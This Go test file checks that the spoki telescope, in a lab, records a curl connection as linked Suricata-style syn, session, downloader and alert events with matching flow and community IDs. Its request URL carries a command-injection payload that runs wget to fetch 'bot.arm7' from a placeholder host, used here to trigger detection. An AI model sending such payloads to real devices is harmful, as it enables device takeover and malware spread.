package test

import (
	"net/netip"
	"testing"
	"time"

	"github.com/spoki-telescope/spoki/lab"
	"github.com/spoki-telescope/spoki/records"
	"github.com/spoki-telescope/spoki/records/communityid"
)

// TestEVELabOneConnection runs a real curl against a real spoki in the
// lab: the syn event of curl's SYN and the session event of its connection
// carry one flow_id and one community_id (the Community ID of the tuple,
// recomputed here), the downloader in its URL and the alert that follows
// carry them too, every event says which sensor wrote it (--host-name), the
// http object has Suricata's names, and every event of the run passes the
// Filebeat Suricata module's mapping (TestEVEMapping).
func TestEVELabOneConnection(t *testing.T) {
	l := e2eNewLab(t, lab.Config{}, "curl")
	tel := e2eStartTelescope(t, l, "--host-name", "vp-eve-lab")
	_, _, code := e2eExec(t, l, l.Scanner, 10*time.Second, nil, "curl", "-sS", "--noproxy", "*", "--max-time", "5",
		"-A", "eve-agent", "http://198.51.100.80/shell?cd+/tmp;wget+http://203.0.113.9/bot.arm7")
	if code != 0 {
		t.Errorf("curl: exit %d, want 0", code)
	}
	tel.stop(t)
	events := e2eRawEvents(t, tel.logDir)

	sess := e2eFindSession(events, "http", 80)
	if sess == nil {
		t.Fatalf("no http session on port 80 among %d events", len(events))
	}
	src, sport := sess["src_ip"].(string), sess["src_port"]
	var syn map[string]any
	var others []map[string]any
	for _, e := range events {
		if e["src_ip"] != src || e["src_port"] != sport || e["dest_port"] != float64(80) {
			continue
		}
		switch e["event_type"] {
		case "syn":
			syn = e
		case "downloader", "alert":
			others = append(others, e)
		}
	}
	if syn == nil {
		t.Fatalf("no syn event of the session's connection %s:%v", src, sport)
	}
	want := communityid.String(0, communityid.ProtoTCP, netip.MustParseAddr(src), netip.MustParseAddr(sess["dest_ip"].(string)),
		uint16(sport.(float64)), 80)
	for _, e := range append([]map[string]any{syn, sess}, others...) {
		if e["flow_id"] == nil || e["flow_id"] != syn["flow_id"] || e["community_id"] != want {
			t.Errorf("%v event: flow_id %v community_id %v; want the syn's flow_id %v and %s", e["event_type"], e["flow_id"],
				e["community_id"], syn["flow_id"], want)
		}
	}
	if len(others) != 2 {
		t.Errorf("%d downloader and alert events of the connection, want one of each: %v", len(others), others)
	} else if a := e2eField(others[1], "alert", "signature_id"); others[1]["event_type"] != "alert" || a != float64(records.AlertDownloader.SignatureID) {
		t.Errorf("second event %v, want the downloader's alert %d", others[1], records.AlertDownloader.SignatureID)
	}
	for path, want := range map[string]any{"http.hostname": "198.51.100.80", "http.http_user_agent": "eve-agent",
		"http.http_method": "GET", "http.protocol": "HTTP/1.1"} {
		if got := e2eField(sess, e2eSplitPath(path)...); got != want {
			t.Errorf("session %s = %v, want %v", path, got, want)
		}
	}
	if h, _ := e2eField(sess, "http", "request_headers").([]any); len(h) == 0 {
		t.Errorf("session http.request_headers = %v, want {name, value} objects", e2eField(sess, "http", "request_headers"))
	} else if m, _ := h[0].(map[string]any); m["name"] == nil || m["value"] == nil {
		t.Errorf("request_headers[0] = %v", h[0])
	}
	ix := newE2EIndex()
	for _, e := range events {
		if e["host"] != "vp-eve-lab" {
			t.Errorf("%v event host %v, want vp-eve-lab", e["event_type"], e["host"])
		}
		ts, _ := e["timestamp"].(string)
		if _, err := time.Parse(records.TimestampLayout, ts); err != nil {
			t.Errorf("%v event timestamp %q: %v", e["event_type"], ts, err)
		}
	}
	// The lines as written (numbers as their text: 5000.000 is a float).
	for _, f := range e2eLogFiles(t, tel.logDir)[e2eEvents] {
		for _, line := range e2eReadLines(t, f) {
			for _, err := range ix.index(e2eDecodeEvent(t, []byte(line))) {
				t.Errorf("%s: %s", line, err)
			}
		}
	}
}
